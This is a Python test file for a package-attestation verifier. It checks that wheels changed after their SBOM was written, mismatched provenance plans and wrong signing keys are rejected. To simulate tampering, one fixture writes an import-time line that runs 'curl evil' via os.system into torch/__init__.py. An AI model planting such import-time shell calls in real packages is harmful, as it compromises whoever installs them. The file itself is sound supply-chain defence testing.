"""verify against the attestations beside a wheel (issue 29): a wheel with one file changed
after its SBOM was written, and a provenance whose plan differs from the manifest's, are
rejected; a signature is checked with the public key given."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

from torchsmith.attest.files import envelope_path, provenance_path
from torchsmith.attest.write import attest
from torchsmith.keyfile import load_key
from torchsmith.verify.attestation import attestation_checks

from ..attest.helpers import FILES, key_pair, make_wheel, manifest, subject


def _attested(tmp_path: Path, signed: bool = False) -> tuple[Path, Path | None]:
    wheel, data = make_wheel(tmp_path), manifest()
    private, public = key_pair(tmp_path)
    attest(subject(wheel, data), data, load_key(str(private)) if signed else None)
    return wheel, public


def _failed(wheel: Path, data: object, key: Path | None = None) -> dict[str, str]:
    checks = attestation_checks(wheel, data, key)
    return {c.name: c.detail for c in checks if c.ok is False and c.severity == "error"}


def test_an_untouched_wheel_passes_every_check(tmp_path: Path) -> None:
    wheel, public = _attested(tmp_path, signed=True)
    checks = attestation_checks(wheel, manifest(), public)
    assert [(c.name, c.ok) for c in checks] == [
        ("SBOM ↔ wheel", True),
        ("provenance ↔ wheel", True),
        ("provenance ↔ manifest", True),
        ("provenance signature", True),
    ]


def test_a_wheel_with_one_file_changed_after_the_sbom_is_rejected(tmp_path: Path) -> None:
    wheel, _ = _attested(tmp_path)
    changed = {**FILES, "torch/__init__.py": b"import os; os.system('curl evil')\n"}
    wheel.unlink()
    make_wheel(tmp_path, changed)
    failed = _failed(wheel, manifest())
    assert failed["SBOM ↔ wheel"] == "torch/__init__.py (content differs)"
    assert "another wheel" in failed["provenance ↔ wheel"]


def test_a_file_added_to_the_wheel_is_named(tmp_path: Path) -> None:
    wheel, _ = _attested(tmp_path)
    with zipfile.ZipFile(wheel, "a") as archive:
        archive.writestr("torch/extra.py", b"")
    assert _failed(wheel, manifest())["SBOM ↔ wheel"] == "torch/extra.py (only in the new wheel)"


def test_a_provenance_whose_plan_differs_from_the_manifest_is_rejected(tmp_path: Path) -> None:
    wheel, _ = _attested(tmp_path)
    other = manifest(plan_extra={"arch_list": "9.0"})
    failed = _failed(wheel, other)
    assert failed == {"provenance ↔ manifest": "the provenance's plan differs in: arch_list"}


def test_a_plan_file_instead_of_a_manifest_is_compared_too(tmp_path: Path) -> None:
    wheel, _ = _attested(tmp_path)
    assert not _failed(wheel, manifest()["plan"])


def test_a_signature_is_checked_with_the_key_given(tmp_path: Path) -> None:
    wheel, _ = _attested(tmp_path, signed=True)
    stranger = key_pair(tmp_path / "..")[1]
    assert "no signature by key" in _failed(wheel, manifest(), stranger)["provenance signature"]
    unchecked = attestation_checks(wheel, manifest(), None)[-1]
    assert (unchecked.ok, unchecked.severity) == (False, "warning")


def test_an_envelope_of_another_statement_is_rejected(tmp_path: Path) -> None:
    wheel, public = _attested(tmp_path, signed=True)
    statement = json.loads(provenance_path(wheel).read_text())
    statement["predicate"]["buildDefinition"]["externalParameters"]["plan"]["arch_list"] = "x"
    provenance_path(wheel).write_text(json.dumps(statement))
    failed = _failed(wheel, manifest(), public)
    assert "signs another statement" in failed["provenance signature"]
    assert envelope_path(wheel).is_file()


def test_a_key_given_for_an_unsigned_provenance_fails(tmp_path: Path) -> None:
    wheel, public = _attested(tmp_path)
    assert "no " in _failed(wheel, manifest(), public)["provenance signature"]


def test_a_wheel_without_attestations_is_skipped_not_failed(tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path)
    assert {c.ok for c in attestation_checks(wheel, manifest(), None)} == {None}
